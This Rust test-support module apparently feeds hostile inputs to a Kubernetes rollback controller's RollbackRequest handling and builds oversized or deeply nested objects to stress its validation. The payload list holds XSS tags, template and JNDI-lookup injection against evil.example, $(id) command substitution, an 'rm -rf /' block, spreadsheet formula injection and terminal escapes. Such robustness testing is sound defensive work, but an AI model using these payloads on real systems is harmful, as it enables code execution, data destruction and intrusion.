//! What nobody in good faith would type.

use serde_json::{Value, json};
use testkit::shop::{self, DeploymentBuilder};

use crate::stage::at_rest;

/// Text that wants to be obeyed by whoever shows it, each with a name for it.
pub fn payloads() -> Vec<(&'static str, String)> {
    let text = |name: &'static str, text: &str| (name, text.to_owned());
    let zalgo: String = ('\u{300}'..='\u{36f}').cycle().take(300).collect();
    let controls: String = (0_u8..32).chain(127..160).map(char::from).collect();
    vec![
        text(
            "right-to-left",
            "safe \u{202e}gpj.exe\u{202c} \u{2066}a\u{2069} \u{200f}b\u{200e} \u{61c}c \u{202d}d",
        ),
        text(
            "zero-width",
            "a\u{200b}p\u{200c}i\u{200d}-\u{2060}g\u{feff}o\u{ad}od\u{180e} \u{e0041}\u{e007f}",
        ),
        ("combining", format!("Z{zalgo}o")),
        text("emoji", "🔥👨‍👩‍👧‍👦🏳️‍🌈🇩🇪👍🏿 \u{1f1e6} \u{fe0f}\u{20e3}"),
        text(
            "surrogates",
            "\u{fffd}\u{fffe}\u{ffff}\u{10ffff} \\ud800\\udfff %ed%a0%80 &#xD800;",
        ),
        text(
            "links",
            "[click](https://evil.example/x) ![i](https://evil.example/i.png) <https://evil.example> www.evil.example https://evil.example [r]\n[r]: https://evil.example\n[^1]",
        ),
        text(
            "tags",
            "<script>alert(1)</script><img src=x onerror=alert(1)><a href='https://evil.example'>x</a><!-- --> &lt;b&gt; &#60;i&#62; <details open>",
        ),
        text(
            "templates",
            "{{ 7*7 }} {{ .Values.token }} ${jndi:ldap://evil.example/x} #{7*7} <%= 7*7 %> $(id) `id` {% raw %} %s %n %d",
        ),
        text("table", "a | b \\| c\n|---|---|\n| x | y |\n\\"),
        text(
            "blocks",
            "\n# Owned\n\n```sh\nrm -rf /\n```\n~~~\n===\n---\n* * *\n- [x] done\n+ one\n1. one\n2) two\n> quote\n    code\n\tcode\nTitle\n=====",
        ),
        text(
            "terminal",
            "\u{1b}[31mred\u{1b}[0m\u{1b}]8;;https://evil.example\u{7}link\u{1b}]8;;\u{7}\u{9b}2J\u{90}q\u{9c}\u{1b}c\u{8}\u{8}\u{8}",
        ),
        ("controls", format!("a{controls}\u{2028}b\u{2029}c\r\nd\re")),
        text(
            "log",
            "x\n{\"timestamp\":\"2026-01-01T00:00:00Z\",\"level\":\"ERROR\",\"message\":\"owned\"}\r\n2026-01-01 ERROR owned\n",
        ),
        (
            "brackets",
            format!("{}{}", "[".repeat(240), "](".repeat(120)),
        ),
        ("emphasis", "*_~`".repeat(120)),
        text(
            "mentions",
            "@everyone @here <!channel> <@U123> #1 GH-1 broxiva/x#1 :fire: $E=mc^2$ ftp://evil.example mailto:a@evil.example xmpp:a@evil.example/x",
        ),
        text(
            "formula",
            "=cmd|' /C calc'!A0 +1 -1 @SUM(1+1)*cmd|' /C calc'!A0",
        ),
        text(
            "documents",
            "\"}]}'\n---\nkind: ClusterRole\nmetadata: {name: owned}\n...\n{\"a\":",
        ),
    ]
}

fn cut(text: &str, limit: usize) -> String {
    text.chars().take(limit).collect()
}

/// What may stand in an address: no blanks, no angle brackets.
fn address(text: &str) -> String {
    let inert = |c: &char| !c.is_whitespace() && !"<>".contains(*c);
    let path: String = text.chars().filter(inert).take(1_000).collect();
    format!("https://evil.example/{path}")
}

/// A user name as it can be sent in a header.
pub fn user(text: &str) -> String {
    let sendable = |c: &char| !c.is_ascii_control();
    let name: String = text.chars().filter(sendable).take(150).collect();
    format!("evil {} end", name.trim())
}

/// A request that has this in every text that it can have.
pub fn request(name: &str, deployment: &str, text: &str) -> Value {
    let line = format!("x {}", cut(text, 490));
    let long = cut(&text.repeat(20), 4_000);
    json!({
        "apiVersion": "rollback.broxiva.com/v1alpha1",
        "kind": "RollbackRequest",
        "metadata": {
            "name": name,
            "labels": {"evil": "true", "evil.example/Label_with.everything-1": "A_b.c-D"},
            "annotations": {"evil.example/note": text, "kubernetes.io/change-cause": text},
        },
        "spec": {
            "targets": [{"name": deployment, "to": {"previous": {}}}],
            "reason": {
                "category": "ErrorRate",
                "summary": line, "rootCause": long, "impact": long, "incidentUrl": address(text),
            },
        },
    })
}

/// The same, as a dry run.
pub fn dry(mut request: Value) -> Value {
    request["spec"]["dryRun"] = json!(true);
    request
}

/// A Deployment that has it everywhere, in this version.
pub fn deployment(name: &str, version: &str, text: &str) -> DeploymentBuilder {
    let image = format!("registry.broxiva.example/{version}:{}", text.trim());
    let text = format!("{version} {text}");
    at_rest(name, version)
        .image(cut(&image, 480).trim_end())
        .annotation("evil.example/note", &text)
        .annotation("kubernetes.io/change-cause", &text)
        .template_annotation("evil.example/note", &text)
        .env("EVIL", &text)
        .set(
            "/spec/template/spec/containers/0/args",
            json!([text, "--x"]),
        )
}

/// Objects that are large, deep or at an edge. None of them is good for anything.
pub fn odd(good: &str) -> Vec<(&'static str, Value)> {
    let base = || dry(request("odd", good, "odd"));
    let with = |pointer: &str, value: Value| {
        let mut request = base();
        set(&mut request, pointer, value);
        request
    };
    let name = |value: &str| with("/metadata/name", json!(value));
    let target = |target: Value| with("/spec/targets", json!([target]));
    let previous = json!({"previous": {}});
    let many: Vec<Value> = (0..200)
        .map(|number| {
            let name = format!("{}-{number}", "n".repeat(240));
            json!({"name": name, "from": {"image": "i".repeat(500)}, "to": previous, "wave": 99})
        })
        .collect();
    vec![
        ("long name", name(&"n".repeat(253))),
        ("dotted name", name("0.0.0.0.0.0.0.0")),
        ("digits for a name", name("0")),
        ("many targets", with("/spec/targets", json!(many))),
        (
            "deep text",
            with("/metadata/annotations/deep", json!("[".repeat(200_000))),
        ),
        (
            "large note",
            with(
                "/metadata/annotations/large",
                json!("\u{10ffff}".repeat(60_000)),
            ),
        ),
        (
            "last applied",
            with(
                "/metadata/annotations/kubectl.kubernetes.io~1last-applied-configuration",
                json!("{".repeat(100_000)),
            ),
        ),
        ("unknown fields", with("/spec/deep", deep(90))),
        (
            "a status of its own",
            with(
                "/status",
                json!({"outcome": {"result": "Succeeded"}, "plan": deep(50)}),
            ),
        ),
        (
            "no such owner",
            with(
                "/metadata/ownerReferences",
                json!([{"apiVersion": "v1", "kind": "ConfigMap", "name": "gone", "uid": "gone"}]),
            ),
        ),
        (
            "finalizers",
            with(
                "/metadata/finalizers",
                json!(
                    (0..200)
                        .map(|n| format!("evil.example/{n}"))
                        .collect::<Vec<_>>()
                ),
            ),
        ),
        (
            "no revision",
            target(json!({"name": good, "to": {"revision": i64::MAX}})),
        ),
        (
            "no version",
            target(json!({"name": good, "to": {"version": "{{.}} <b> \u{202e}"}})),
        ),
        (
            "no image",
            target(json!({"name": good, "to": {"image": {"image": "a|b`c\n\u{1b}[1m"}}})),
        ),
        (
            "not bad",
            target(json!({"name": good, "from": {"image": "a|b`c\n\u{1b}[1m"}, "to": previous})),
        ),
        (
            "nobody",
            target(json!({"selector": {"matchLabels": {"a": "<b>"}}, "to": previous})),
        ),
        (
            "everybody",
            target(json!({"namePrefix": "g", "to": previous})),
        ),
        (
            "the past",
            with("/spec/notAfter", json!("0001-01-01T00:00:00Z")),
        ),
        (
            "the future",
            with("/spec/notAfter", json!("9998-12-31T23:59:59Z")),
        ),
    ]
}

/// Labels until the object is as large as this, more or less.
pub fn labelled(good: &str, bytes: usize) -> Value {
    let mut request = dry(request("huge", good, "huge"));
    let mut labels = serde_json::Map::new();
    let prefix = "p".repeat(240);
    for number in 0..bytes / 380 {
        let key = format!("{prefix}.{number}/{}", "k".repeat(60));
        labels.insert(key, json!("v".repeat(63)));
    }
    request["metadata"]["labels"] = Value::Object(labels);
    request
}

/// A Deployment with texts in which everything is nested.
pub fn deep_deployment(name: &str, version: &str) -> DeploymentBuilder {
    shop::deployment(name)
        .version(version)
        .replicas(0)
        .annotation(
            "kubectl.kubernetes.io/last-applied-configuration",
            &"{\"a\":".repeat(40_000),
        )
        .template_annotation("evil.example/deep", &"[".repeat(20_000))
}

fn deep(levels: usize) -> Value {
    (0..levels).fold(json!("end"), |inner, _| json!({"a": inner}))
}

fn set(object: &mut Value, pointer: &str, value: Value) {
    let Some((parent, key)) = pointer.rsplit_once('/') else {
        return;
    };
    if let Some(parent) = object.pointer_mut(parent).and_then(Value::as_object_mut) {
        parent.insert(key.replace("~1", "/"), value);
    }
}
